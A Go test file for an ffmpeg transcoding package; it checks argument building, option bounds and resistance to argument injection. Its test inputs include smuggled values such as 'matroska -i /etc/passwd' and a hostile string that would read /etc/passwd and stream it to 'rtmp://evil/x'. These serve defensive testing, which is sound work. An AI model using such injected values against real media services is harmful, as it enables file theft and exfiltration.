package transcode

import (
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

// copyOptions (audio only: what a Chromium broadcast needs, its H.264
// passing through) and encodeOptions (video and audio) are valid options.
func copyOptions() Options {
	return Options{Input: InputMatroska, Audio: true, AudioBitrate: 128_000, AudioSampleRate: 48000}
}

func encodeOptions() Options {
	return Options{
		Input: InputMatroska, Video: true, Audio: true, VideoBitrate: 2_500_000, KeyframeInterval: 2 * time.Second,
		X264Preset: "veryfast", AudioBitrate: 128_000, AudioSampleRate: 48000,
	}
}

func TestArgs(t *testing.T) {
	for _, ca := range []struct {
		name string
		opts Options
		want []string
	}{
		{
			name: "audio only",
			opts: copyOptions(),
			want: []string{
				"-hide_banner", "-nostats", "-loglevel", "warning",
				"-nostdin",
				"-protocol_whitelist", "pipe",
				"-probesize", "65536", "-analyzeduration", "500000",
				"-f", "matroska", "-i", "pipe:0",
				"-vn",
				"-map", "0:a:0", "-c:a", "aac", "-aac_coder", "fast", "-b:a", "128000", "-ar", "48000",
				"-flush_packets", "1",
				"-f", "flv", "-flvflags", "no_duration_filesize", "pipe:1",
			},
		},
		{
			name: "vp8 encode",
			opts: encodeOptions(),
			want: []string{
				"-hide_banner", "-nostats", "-loglevel", "warning",
				"-nostdin",
				"-protocol_whitelist", "pipe",
				"-probesize", "65536", "-analyzeduration", "500000",
				"-f", "matroska", "-i", "pipe:0",
				"-map", "0:v:0",
				"-c:v", "libx264", "-preset", "veryfast", "-tune", "zerolatency",
				"-pix_fmt", "yuv420p", "-profile:v", "high",
				"-b:v", "2500000", "-maxrate", "2500000", "-bufsize", "5000000",
				"-force_key_frames", "expr:gte(t,n_forced*2)", "-sc_threshold", "0",
				"-map", "0:a:0", "-c:a", "aac", "-aac_coder", "fast", "-b:a", "128000", "-ar", "48000",
				"-flush_packets", "1",
				"-f", "flv", "-flvflags", "no_duration_filesize", "pipe:1",
			},
		},
		{
			name: "video only, 480p profile, fractional key-frame interval, timestamps kept",
			opts: Options{
				Input: InputMatroska, Video: true, Width: 854, Height: 480, FPS: 30, VideoBitrate: 1_000_000,
				KeyframeInterval: 1500 * time.Millisecond, X264Preset: "ultrafast", KeepTimestamps: true,
			},
			want: []string{
				"-hide_banner", "-nostats", "-loglevel", "warning",
				"-nostdin",
				"-protocol_whitelist", "pipe",
				"-probesize", "65536", "-analyzeduration", "500000",
				"-copyts",
				"-f", "matroska", "-i", "pipe:0",
				"-map", "0:v:0",
				"-vf", "scale=854:480:force_original_aspect_ratio=decrease,pad=854:480:(ow-iw)/2:(oh-ih)/2,setsar=1",
				"-r", "30",
				"-c:v", "libx264", "-preset", "ultrafast", "-tune", "zerolatency",
				"-pix_fmt", "yuv420p", "-profile:v", "high",
				"-b:v", "1000000", "-maxrate", "1000000", "-bufsize", "2000000",
				"-force_key_frames", "expr:gte(t,n_forced*1.5)", "-sc_threshold", "0",
				"-an",
				"-flush_packets", "1",
				"-f", "flv", "-flvflags", "no_duration_filesize", "pipe:1",
			},
		},
	} {
		t.Run(ca.name, func(t *testing.T) {
			if err := ca.opts.Validate(); err != nil {
				t.Fatalf("Validate: %v", err)
			}
			got := Args(ca.opts)
			if !slices.Equal(got, ca.want) {
				t.Errorf("Args:\n got %q\nwant %q", got, ca.want)
			}
		})
	}
}

func TestValidate(t *testing.T) {
	for _, ca := range []struct {
		name    string
		base    func() Options
		change  func(*Options)
		wantErr string // empty: valid
	}{
		{name: "copy", base: copyOptions, change: func(*Options) {}},
		{name: "encode", base: encodeOptions, change: func(*Options) {}},
		{name: "audio only ignores encoder settings", base: copyOptions, change: func(o *Options) {
			o.X264Preset, o.VideoBitrate, o.KeyframeInterval = "", 0, 0
		}},
		{name: "video only ignores audio settings", base: encodeOptions, change: func(o *Options) {
			o.Audio, o.AudioBitrate, o.AudioSampleRate = false, 0, 0
		}},
		{name: "nothing to encode", base: copyOptions, wantErr: "nothing", change: func(o *Options) { o.Audio = false }},
		{name: "profile size", base: encodeOptions, change: func(o *Options) { o.Width, o.Height, o.FPS = 1280, 720, 30 }},
		{name: "odd width", base: encodeOptions, wantErr: "size", change: func(o *Options) { o.Width, o.Height = 1281, 720 }},
		{name: "width without height", base: encodeOptions, wantErr: "both", change: func(o *Options) { o.Width = 1280 }},
		{name: "too big", base: encodeOptions, wantErr: "size", change: func(o *Options) { o.Width, o.Height = 7680, 4320 }},
		{name: "fps too high", base: encodeOptions, wantErr: "frame rate", change: func(o *Options) { o.FPS = 240 }},
		{name: "44.1 kHz", base: copyOptions, change: func(o *Options) { o.AudioSampleRate = 44100 }},
		{name: "lowest bitrates", base: encodeOptions, change: func(o *Options) {
			o.VideoBitrate, o.AudioBitrate, o.KeyframeInterval = 100_000, 32_000, 500*time.Millisecond
		}},
		{name: "highest bitrates", base: encodeOptions, change: func(o *Options) {
			o.VideoBitrate, o.AudioBitrate, o.KeyframeInterval = 50_000_000, 320_000, 10*time.Second
		}},

		{name: "input with arguments", base: copyOptions, wantErr: "input",
			change: func(o *Options) { o.Input = Input("matroska -i /etc/passwd") }},
		{name: "input http", base: copyOptions, wantErr: "input",
			change: func(o *Options) { o.Input = Input("http") }},
		{name: "input empty", base: encodeOptions, wantErr: "input",
			change: func(o *Options) { o.Input = "" }},
		{name: "input upper case", base: copyOptions, wantErr: "input",
			change: func(o *Options) { o.Input = Input("MATROSKA") }},
		{name: "preset with arguments", base: encodeOptions, wantErr: "preset",
			change: func(o *Options) { o.X264Preset = "veryfast -vf x" }},
		{name: "preset empty", base: encodeOptions, wantErr: "preset",
			change: func(o *Options) { o.X264Preset = "" }},
		{name: "preset placebo", base: encodeOptions, wantErr: "preset",
			change: func(o *Options) { o.X264Preset = "placebo" }},
		{name: "video bitrate too low", base: encodeOptions, wantErr: "video bitrate",
			change: func(o *Options) { o.VideoBitrate = 99_999 }},
		{name: "video bitrate too high", base: encodeOptions, wantErr: "video bitrate",
			change: func(o *Options) { o.VideoBitrate = 50_000_001 }},
		{name: "video bitrate negative", base: encodeOptions, wantErr: "video bitrate",
			change: func(o *Options) { o.VideoBitrate = -1 }},
		{name: "key-frame interval too short", base: encodeOptions, wantErr: "key-frame interval",
			change: func(o *Options) { o.KeyframeInterval = 499 * time.Millisecond }},
		{name: "key-frame interval too long", base: encodeOptions, wantErr: "key-frame interval",
			change: func(o *Options) { o.KeyframeInterval = 10*time.Second + 1 }},
		{name: "key-frame interval zero", base: encodeOptions, wantErr: "key-frame interval",
			change: func(o *Options) { o.KeyframeInterval = 0 }},
		{name: "audio bitrate too low", base: copyOptions, wantErr: "audio bitrate",
			change: func(o *Options) { o.AudioBitrate = 31_999 }},
		{name: "audio bitrate too high", base: encodeOptions, wantErr: "audio bitrate",
			change: func(o *Options) { o.AudioBitrate = 320_001 }},
		{name: "audio bitrate zero", base: copyOptions, wantErr: "audio bitrate",
			change: func(o *Options) { o.AudioBitrate = 0 }},
		{name: "sample rate 32 kHz", base: copyOptions, wantErr: "sample rate",
			change: func(o *Options) { o.AudioSampleRate = 32000 }},
		{name: "sample rate zero", base: encodeOptions, wantErr: "sample rate",
			change: func(o *Options) { o.AudioSampleRate = 0 }},
		{name: "sample rate 96 kHz", base: copyOptions, wantErr: "sample rate",
			change: func(o *Options) { o.AudioSampleRate = 96000 }},
	} {
		t.Run(ca.name, func(t *testing.T) {
			o := ca.base()
			ca.change(&o)
			err := o.Validate()
			if ca.wantErr == "" {
				if err != nil {
					t.Fatalf("Validate refused valid options: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("Validate accepted %+v", o)
			}
			if !strings.Contains(err.Error(), ca.wantErr) {
				t.Errorf("error %q does not mention %q", err, ca.wantErr)
			}
		})
	}
}

// enumerated lists, for every string field of Options, every value Validate
// lets through. A field missing here is a free string: the test fails until
// it is given a closed set of values that Validate enforces.
var enumerated = map[string][]string{
	"Input":      {string(InputMatroska)},
	"X264Preset": {"ultrafast", "superfast", "veryfast", "faster", "fast", "medium"},
}

// TestNoFreeStrings walks Options by reflection: no field may carry text that
// Validate does not check against a closed list, and no unchecked text may
// reach the command line.
func TestNoFreeStrings(t *testing.T) {
	const hostile = "x -i /etc/passwd -f flv rtmp://evil/x"
	typ := reflect.TypeFor[Options]()
	for i := range typ.NumField() {
		f := typ.Field(i)
		t.Run(f.Name, func(t *testing.T) {
			switch f.Type.Kind() {
			case reflect.Bool, reflect.Int, reflect.Int64:
				return // numbers and flags cannot smuggle text; Validate bounds them
			case reflect.String:
			default:
				t.Fatalf("Options.%s is a %s: only bool, integer and enumerated string fields keep client text off the command line",
					f.Name, f.Type)
			}
			allowed, ok := enumerated[f.Name]
			if !ok {
				t.Fatalf("Options.%s is a free string field; give it constants, check them in Validate and list them in enumerated", f.Name)
			}
			for _, base := range []func() Options{copyOptions, encodeOptions} {
				// Every allowed value passes.
				for _, v := range allowed {
					o := base()
					reflect.ValueOf(&o).Elem().Field(i).SetString(v)
					if err := o.Validate(); err != nil {
						t.Errorf("Options.%s = %q refused: %v", f.Name, v, err)
					}
				}
				// Anything else is refused, or at least never reaches the
				// command line (the preset when video is copied).
				for _, v := range []string{hostile, "", allowed[0] + " ", strings.ToUpper(allowed[0])} {
					o := base()
					reflect.ValueOf(&o).Elem().Field(i).SetString(v)
					if o.Validate() != nil {
						continue
					}
					if v == "" {
						continue // an empty field that passes is unused
					}
					for _, a := range Args(o) {
						if strings.Contains(a, v) {
							t.Errorf("Options.%s = %q passes Validate and reaches the command line as %q", f.Name, v, a)
						}
					}
				}
			}
			// When the field is in use (encoding), Validate itself refuses
			// anything outside the list.
			o := encodeOptions()
			reflect.ValueOf(&o).Elem().Field(i).SetString(hostile)
			if o.Validate() == nil {
				t.Errorf("Options.%s = %q passes Validate", f.Name, hostile)
			}
		})
	}
}

// TestArgsHaveNoSeparators: no argument carries a space or a character a
// shell or ffmpeg would split on.
func TestArgsHaveNoSeparators(t *testing.T) {
	for _, ca := range []struct {
		name string
		opts Options
	}{
		{name: "copy", opts: copyOptions()},
		{name: "encode", opts: encodeOptions()},
	} {
		t.Run(ca.name, func(t *testing.T) {
			for _, a := range Args(ca.opts) {
				if strings.ContainsAny(a, " \t\n;|&$`'\"") {
					t.Errorf("argument %q contains a shell or separator character", a)
				}
			}
		})
	}
}
